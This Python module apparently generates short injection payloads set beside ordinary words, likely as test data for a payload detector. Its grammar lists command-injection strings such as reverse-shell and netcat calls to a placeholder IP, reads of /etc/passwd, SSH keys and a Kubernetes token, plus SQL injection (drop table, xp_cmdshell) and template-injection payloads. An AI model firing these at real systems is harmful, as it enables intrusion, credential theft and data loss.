"""Short payloads beside words: what is put into a field that holds a sentence, a name or a header's text already.

A payload of three bytes has few n-grams, and most of them reach into what stands beside it. So the seam has to be seen with words on either side,
on both, with and without white space. One dotted step before a file's name is what people write too; two of them, or a file of the system, are not.
"""

import random

from .grammar import Grammar

_CMD = ["id", "id", "ls", "ls -la", "dir", "pwd", "env", "ps", "ps aux", "whoami", "uname -a", "hostname", "set", "w", "cat /etc/passwd", "cat /etc/{etc}", "sleep {d}", "ping -c {d} {host}",
        "curl {host}", "curl http://{ip}/{word}", "wget {host}/{word}", "nslookup {host}", "nc {ip} {port}", "/bin/id", "/usr/bin/id", "sh", "bash -i", "ifconfig", "netstat -an", "ver", "net user",
        "type c:\\windows\\win.ini", "echo {n}", "printenv", "reboot", "head /etc/{etc}", "c''at /etc/{etc}", "cat${{IFS}}/etc/{etc}", "python3 -c 1", "id;ls", "id>/tmp/{word}"]

BESIDE = {
    "cmdi": ["{t}{s}{cmd}", "{t}{s}{cmd}", "{t}{s}{cmd}{s}{t}", "{s}{cmd}{s}{t}", "{s}{cmd} {s} {t}", "{t}{g}$({cmd}){g}{t}", "{t}{g}$({cmd})", "$({cmd}){g}{t}", "{t}{g}`{cmd}`{g}{t}", "{t}{g}`{cmd}`", "`{cmd}`{g}{t}",
             "{t}{q}{s}{cmd}{s}{q}{t}", "{t}{q}{s}{cmd} #", "{t}\n{cmd}\n{t}", "{t}%0a{cmd}%0a{t}", "{t}.{s}{cmd}", "{t}{g}<({cmd})", "{t}&{cmd}&{t}", "{t}||{cmd}||{t}", "{t};{cmd};{t}"],
    "t": ["{w}", "{w} {w}", "{w} {w} {w}", "{W} {w} {c} {w} {w}", "{w} {c} {w} {w} {c} {w} {w}", "{W} {w}.", "{w}, {w} {c} {w}", "{W} {c} {w} {w} {w} {c} {w} {w}. {W} {w} {c} {w}", "{w}-{w} {n}", "{W}/{d}.{d} ({W}; {w})", "{w}={w}"],
    # Alone, to be set into real text by whoever asks for it.
    "command": ["{s}{cmd}", "{s}{cmd}", "{s}{cmd}{s}", "{s}{cmd} {s}", "$({cmd})", "$({cmd})", "`{cmd}`", "`{cmd}`", "{q}{s}{cmd}{s}{q}", "{q}{s}{cmd} #", "&{cmd}&", "||{cmd}||", ";{cmd};", "|{cmd}"],
    "w": ["{word}"], "c": ["the", "and", "or", "of", "to", "in", "is", "for", "on", "with", "my", "a", "please", "new"],
    "s": [";", ";", "; ", " ; ", "|", "|", " | ", "| ", "||", " || ", "&", "&&", " && ", " & ", ";;", "|&", "\n", "\r\n"], "g": ["", " ", " ", "-", "."], "q": ["'", "\"", "')", "\")", "`"],
    "cmd": _CMD, "etc": ["passwd", "shadow", "hosts", "group", "hostname", "issue", "crontab", "services"],
    "path_traversal": ["{t} {up}{up}{file}", "{t}{j}{up}{up}{up}{file}", "{up}{up}{file} {t}", "{t}{j}{up}{up}{up}{up}{file}{j}{t}", "{t} /{sys}", "{t}: /{sys} {t}", "/{sys} {t}", "{t}{j}{up}{sys}", "{t} file:///{sys}", "{t} {up}{up}", "{t}{j}{up}{up}{up}", "{up}{up}{up} {t}", "{w}{up}{up}{up}{w} {t}"],
    "up": ["../", "../", "../", "..\\", "..%2f", "%2e%2e/", "..;/", "....//", "%2e%2e%2f", "..%5c", "..%c0%af"], "j": [" ", "", "/", "=", "; "],
    "file": ["etc/passwd", "etc/{etc}", "windows/win.ini", "boot.ini", "{w}/{w}.conf", "{w}", ".env", "web.config", "WEB-INF/web.xml", "var/log/{w}.log", "proc/self/environ", "{w}.php", "id_rsa"],
    "sys": ["etc/passwd", "etc/shadow", "proc/self/environ", "proc/self/cmdline", "proc/version", "root/.ssh/id_rsa", "windows/win.ini", "etc/passwd%00", "var/run/secrets/kubernetes.io/serviceaccount/token", "home/{w}/.ssh/id_rsa"],
    "sqli": ["{t}{v} {o} {cond}{e}", "{t}{v} {o} {cond}{e}", "{t}{v} union {a}select {col},{col} from {tab}{e}", "{t}{v};{st}{e}", "{t}{v} {o} {fn}{e}", "{n} {o} {cond} {t}", "{v} {o} {cond}-- {t}", "{v} union {a}select {col} from {tab}-- {t}", "{t}{v}||({sel})||'{t}", "{t}{v} {o} ({sel})={n}{e}", "{t} {n} union {a}select {col},{n}{e}",
             "{t}{v}/**/{o}/**/{cond}{e}", "{t} (select*from(select(sleep({d})))a)", "{t}{v} order by {d}{e}", "{t}{v} {o} '{w}'='{w}", "{t}{v} {o} {cond} {o} '{t}"],
    "v": ["'", "'", "\"", "')", "\")", "'))", " {n}", " {n})", "`"], "o": ["or", "or", "and", "||", "&&", "xor"], "a": ["", "all "], "e": ["-- ", "--", "#", "/*", "", " -- -", " {t}", "-- {t}"],
    "cond": ["{d}={d}", "1=1", "{n}={n}", "'{w}'='{w}'", "true", "{d}>{d}", "{n} like {n}", "not {d}={d}", "exists({sel})", "length({col})>{d}"], "col": ["null", "user()", "version()", "password", "username", "{w}", "@@version", "{n}", "table_name", "group_concat({w})"],
    "tab": ["users", "information_schema.tables", "{w}", "dual", "sqlite_master", "pg_shadow", "mysql.user"], "sel": ["select {col} from {tab}", "select {col}", "select count(*) from {tab}"],
    "fn": ["sleep({d})", "benchmark({n},md5({d}))", "pg_sleep({d})", "extractvalue({d},concat(0x7e,({sel})))", "updatexml({d},concat(0x7e,user()),{d})"], "st": ["drop table {w}", "waitfor delay '0:0:{d}'", "select pg_sleep({d})", "exec xp_cmdshell '{w}'", "insert into {w} values({n})"],
    "ssti": ["{t} {{{{{d}*{d}}}}}", "{{{{{d}*{d}}}}} {t}", "{t} ${{{d}*{d}}} {t}", "{t}{{{{config}}}}{t}", "{t} <%= {d}*{d} %>", "{t} #{{{d}*{d}}}", "{t} {{{{self.__init__.__globals__}}}}", "{t} {{{{''.__class__.__mro__}}}} {t}", "{t} ${{T(java.lang.Runtime).getRuntime().exec('{w}')}}", "{t} *{{{d}*{d}}}"],
}
BESIDE_FAMILIES = {"cmdi": 0.3, "path_traversal": 0.06, "sqli": 0.06, "ssti": 0.02}


def commands(count: int, seed: int) -> "list[bytes]":
    """Short commands behind a separator or as a substitution, without anything beside them."""
    grammar, rng = Grammar(BESIDE), random.Random(seed)
    return [grammar.expand("command", rng).encode("utf-8") for _ in range(count)]
